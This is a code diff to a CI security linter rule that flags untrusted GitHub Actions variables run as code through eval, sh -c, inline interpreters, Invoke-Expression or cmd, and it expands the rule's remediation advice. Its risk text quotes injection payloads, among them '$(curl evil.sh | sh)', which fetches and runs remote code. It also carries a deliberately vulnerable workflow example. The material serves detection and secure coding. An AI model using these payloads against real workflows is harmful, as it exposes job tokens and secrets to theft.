@@ -18,7 +18,7 @@ export default defineRule({
     id: 'shell-eval-injection',
     title: 'Untrusted variable run as code by eval, sh -c or an inline interpreter',
     description:
-      'An environment variable holding attacker-controllable text is expanded by the shell into code that is run again: the argument of `eval`, the command string of `bash -c`/`sh -c`, or the inline program of `python -c`, `node -e`, `perl -e`, `ruby -e`.',
+      "Attacker-controllable text in an environment variable (or a script variable derived from one) is run as code again: the argument of `eval` or `source`, the command string of `bash -c`/`sh -c`, the inline program of `python -c`, `node -e`, `perl -e`, `ruby -e`, PowerShell's `Invoke-Expression`, or any `%VAR%` in a `cmd` script.",
     severity: 'high',
     confidence: 'high',
     category: 'untrusted-input',
@@ -28,9 +28,9 @@ export default defineRule({
     docs: {
       risk: 'Moving `${{ }}` into `env:` makes the value data only while the shell keeps it data. `eval "$TITLE"` or `bash -c "echo $TITLE"` paste the value into text that a shell parses again, and `python3 -c "print(\'$TITLE\')"` into a program: a title such as `$(curl evil.sh | sh)` or `\'); import os; os.system(\'...` runs with the job\'s token and secrets.',
       remediation:
-        'Do not build code from untrusted text. Pass the value as an argument or through the environment of the inner program, which then reads it as data: `bash -c \'echo "$1"\' _ "$TITLE"`, `bash -c \'echo "$TITLE"\'` (single quotes: the inner shell expands it as data), `python3 -c \'import os; print(os.environ["TITLE"])\'`. Drop `eval` unless every input is a constant. There is no mechanical fix: the right form depends on what the code does with the value.',
+        'Do not build code from untrusted text. Copying the value first (`CMD="$BODY"`, `X=$(echo "$BODY" | head -n1)`, `read -r X <<< "$BODY"`, `for f in $LIST`, `$c = $env:BODY`) does not make it data: the finding names each hop. Pass the value as an argument or through the environment of the inner program, which then reads it as data: `bash -c \'echo "$1"\' _ "$TITLE"`, `bash -c \'echo "$TITLE"\'` (single quotes: the inner shell expands it as data), `python3 -c \'import os; print(os.environ["TITLE"])\'`. Drop `eval` unless every input is a constant. In PowerShell call the command with the value as an argument instead of `Invoke-Expression`; in `cmd` read it with delayed expansion (`setlocal EnableDelayedExpansion`, `!BODY!`) or use pwsh or bash. Validating first also works: `[[ "$X" =~ ^[A-Za-z0-9._-]+$ ]] || exit 1`. There is no mechanical fix: the right form depends on what the code does with the value.',
       severity:
-        "Follows who can trigger the workflow, as for template-injection: high when any GitHub user can and the job has secrets, low for dispatch inputs and inputs whose callers are not visible, low on `pull_request` (a fork's run has no secrets). A variable inside single quotes is not expanded by the outer shell and is not reported.",
+        "Follows who can trigger the workflow, as for template-injection: high when any GitHub user can and the job has secrets, low for dispatch inputs and inputs whose callers are not visible, low on `pull_request` (a fork's run has no secrets). A variable inside single quotes is not expanded by the outer shell and is not reported. A job whose steps (or the jobs it needs) ask the API for the user\'s repository permission counts as maintainer-only.",
       vulnerableExample:
         'on: issue_comment\njobs:\n  run:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          BODY: ${{ github.event.comment.body }}\n        run: bash -c "echo $BODY"\n',
       safeExample:
